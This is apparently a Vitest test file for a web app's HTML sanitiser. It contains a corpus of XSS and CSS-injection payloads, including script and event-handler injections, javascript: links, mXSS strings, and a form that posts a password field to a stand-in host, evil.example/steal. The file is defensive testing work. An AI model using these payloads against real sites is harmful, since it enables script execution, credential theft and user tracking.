// @vitest-environment jsdom
// The one sanitiser for server HTML against a corpus of XSS and CSS-injection payloads: the
// sanitised markup is rendered into a live document through SafeHtml, and nothing may run, load,
// restyle the page or submit anywhere.
import { createElement } from 'react';
import { afterEach, beforeAll, describe, expect, it } from 'vitest';
import { htmlToPlainText, sanitiseHtml } from '../../../src/ui/sanitise';
import { SafeHtml } from '../../../src/ui/SafeHtml';
import { render, startEnglish, unmountAll } from './render';
import { href } from '../../../src/routes';

/** Each payload, if it worked, would call window.__xss or change the page. */
const XSS = [
  '<script>window.__xss("script")</script>',
  '<img src=x onerror="window.__xss(\'onerror\')">',
  '<svg onload="window.__xss(\'svg\')"><circle r=1 /></svg>',
  '<svg><script>window.__xss("svg-script")</script></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror="window.__xss(\'mxss\')">',
  '<a href="javascript:window.__xss(\'href\')">tap</a>',
  '<a href="JaVaScRiPt:window.__xss(\'href-case\')">tap</a>',
  '<a href="&#106;avascript:window.__xss(\'entity\')">tap</a>',
  '<a href="vbscript:msgbox(1)">tap</a>',
  '<a href="data:text/html,<script>window.__xss(1)</script>">tap</a>',
  '<iframe src="javascript:window.__xss(\'iframe\')"></iframe>',
  '<iframe srcdoc="<script>parent.__xss(1)</script>"></iframe>',
  '<object data="javascript:window.__xss(1)"></object>',
  '<embed src="javascript:window.__xss(1)">',
  '<body onload="window.__xss(\'body\')">',
  '<div onclick="window.__xss(\'click\')" onmouseover="window.__xss(\'over\')">hover</div>',
  '<details open ontoggle="window.__xss(\'toggle\')"><summary>x</summary></details>',
  '<form action="https://evil.example/steal"><input name="password"><button>Go</button></form>',
  '<button formaction="javascript:window.__xss(1)">x</button>',
  '<meta http-equiv="refresh" content="0;url=javascript:window.__xss(1)">',
  '<base href="https://evil.example/">',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<video><source onerror="window.__xss(\'source\')"></video>',
  '<audio src=x onerror="window.__xss(\'audio\')"></audio>',
  '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
  '<img src="//evil.example/track.png">',
  '<img srcset="https://evil.example/a.png 1x">',
  '<template><img src=x onerror="window.__xss(\'template\')"></template>',
  '<noscript><p title="</noscript><img src=x onerror=window.__xss(\'noscript\')>">',
];

/** Payloads that would restyle or hide the page. */
const CSS = [
  '<style>body, #root { display: none !important }</style>',
  '<style>@import url("https://evil.example/x.css");</style>',
  '<div style="position:fixed;inset:0;z-index:99999;background:#000">fake overlay</div>',
  '<p style="background:url(https://evil.example/track.png)">tracked</p>',
  '<div class="popup button" id="root">borrowed classes</div>',
  '<svg><style>body{display:none}</style></svg>',
];

describe('the sanitiser', () => {
  let calls: string[] = [];
  beforeAll(async () => {
    await startEnglish();
  });
  afterEach(() => {
    unmountAll();
    calls = [];
  });

  it.each(XSS)('nothing runs, loads or submits: %s', async (payload) => {
    (window as unknown as { __xss: (what: string) => void }).__xss = (what) => calls.push(what);
    const { container } = await render(createElement(SafeHtml, { html: payload }));
    const box = container.querySelector('.safe-html')!;
    // Fire what a user could: clicks and hovers on everything that survived.
    for (const node of box.querySelectorAll('*')) {
      node.dispatchEvent(new MouseEvent('click', { bubbles: true, cancelable: true }));
      node.dispatchEvent(new MouseEvent('mouseover', { bubbles: true }));
    }
    await new Promise((resolve) => setTimeout(resolve, 20));
    expect(calls).toEqual([]);
    expect(box.querySelectorAll('script, iframe, object, embed, form, input, button, meta, base, link, svg, math, template, video, audio, source, style').length).toBe(0);
    for (const node of box.querySelectorAll('*')) {
      for (const attribute of node.attributes) expect(attribute.name.startsWith('on'), attribute.name).toBe(false);
    }
    for (const link of box.querySelectorAll('a[href]')) {
      expect(link.getAttribute('href')).toMatch(/^(https?:|mailto:|tel:|\/(?!\/)|#)/i);
    }
    for (const image of box.querySelectorAll('img')) {
      expect(image.getAttribute('src')).toMatch(/^(https?:\/\/|\/(?!\/))/i);
      expect(image.hasAttribute('srcset')).toBe(false);
    }
  });

  it.each(CSS)('nothing restyles the page: %s', async (payload) => {
    const { container } = await render(createElement(SafeHtml, { html: payload }));
    const box = container.querySelector('.safe-html')!;
    expect(box.querySelectorAll('style, link').length).toBe(0);
    expect(box.querySelectorAll('[style], [class], [id]').length).toBe(0);
    expect(document.querySelectorAll('style').length).toBe(0);
    expect(getComputedStyle(document.body).display).not.toBe('none');
  });

  it('keeps ordinary content: headings, lists, tables, safe links and http(s) images', () => {
    const html =
      '<h3>Weekly bonus</h3><p>Play <strong>more</strong>, win <em>more</em>.</p><ul><li>one</li></ul>' +
      '<table><tr><td>Tier</td><td>10%</td></tr></table>' +
      '<a href="https://example.org/terms">Terms</a> <a href="/m/activity">Promotions</a>' +
      '<img src="https://cdn.example.org/p.png" alt="cover"><img src="/media/banner/1.svg" alt="local">';
    const clean = sanitiseHtml(html);
    const box = document.createElement('div');
    box.innerHTML = clean;
    expect(box.querySelector('h3')?.textContent).toBe('Weekly bonus');
    expect(box.querySelectorAll('li, td, strong, em').length).toBe(5);
    const links = [...box.querySelectorAll('a')];
    expect(links.map((a) => a.getAttribute('href'))).toEqual(['https://example.org/terms', href('activity')]);
    // Links open elsewhere, without a handle on this page.
    for (const a of links) {
      expect(a.getAttribute('target')).toBe('_blank');
      expect(a.getAttribute('rel')).toContain('noopener');
    }
    expect([...box.querySelectorAll('img')].map((img) => img.getAttribute('src'))).toEqual(['https://cdn.example.org/p.png', '/media/banner/1.svg']);
  });

  it('turns HTML into a plain-text preview without running it', () => {
    (window as unknown as { __xss: (what: string) => void }).__xss = (what) => calls.push(what);
    expect(htmlToPlainText('<p>Deposit <b>bonus</b></p>\n<p>up to   10%</p><img src=x onerror="window.__xss(1)"><script>window.__xss(2)</script>')).toBe(
      'Deposit bonus up to 10%',
    );
    expect(calls).toEqual([]);
    expect(htmlToPlainText(undefined)).toBe('');
    expect(sanitiseHtml(42)).toBe('');
  });
});
